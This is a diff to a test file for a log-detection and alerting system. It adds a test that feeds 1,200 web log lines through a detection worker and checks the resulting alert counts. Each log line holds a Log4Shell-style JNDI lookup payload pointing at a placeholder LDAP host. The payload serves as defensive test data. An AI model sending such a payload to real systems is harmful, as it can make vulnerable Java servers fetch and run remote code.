@@ -5,9 +5,14 @@ import time
 
 import pytest
 
+from dekhang.apps.alerts.models import Alert
 from dekhang.cli import jobs as loop
 from dekhang.cli.jobs import Job, run_due
+from dekhang.pipeline.spool import Batch, SpoolWriter
 from dekhang.pipeline.stores import heartbeat
+from dekhang.pipeline.worker.loop import Worker
+from tests.factories.sources import MORNING, LogSourceFactory
+from tests.installation import PROJECT
 
 
 def test_a_job_that_fails_is_counted_and_the_others_go_on(caplog):
@@ -33,6 +38,25 @@ def test_every_app_with_a_clock_is_on_the_list():
         *("detections", "sources", "duties", "escalation", "clocks", "messages", "snapshots"),
     }
     assert [job.name for job in loop.all_jobs() if job.apart] == ["messages"], "only mail waits for others' servers"
+
+
+@pytest.mark.django_db
+def test_a_burst_of_detections_is_read_in_one_turn(data):
+    source = LogSourceFactory(kind="web")
+    lines = [
+        b'192.0.2.7 - - [10/Dec/2019:02:00:00 +0000] "GET / HTTP/1.1" 200 5 "-" "${jndi:ldap://192.0.2.9/a}"'
+    ] * 1_200
+    with SpoolWriter(data / "spool", 1) as spool:
+        now_ms = int(MORNING.timestamp() * 1000)
+        spool.append(Batch(source.pk, source.unit_id, "web", "tail", now_ms, "192.0.2.250", lines))
+    worker = Worker(data, [PROJECT / "rules"])
+    worker.start()
+    worker.drain()
+    found = worker.total_detections
+    worker.close()
+    assert found > loop.DETECTIONS_AT_ONCE
+    loop.pull_what_waits()
+    assert sum(Alert.objects.values_list("detection_count", flat=True)) == found
 
 
 @pytest.mark.django_db(transaction=True)
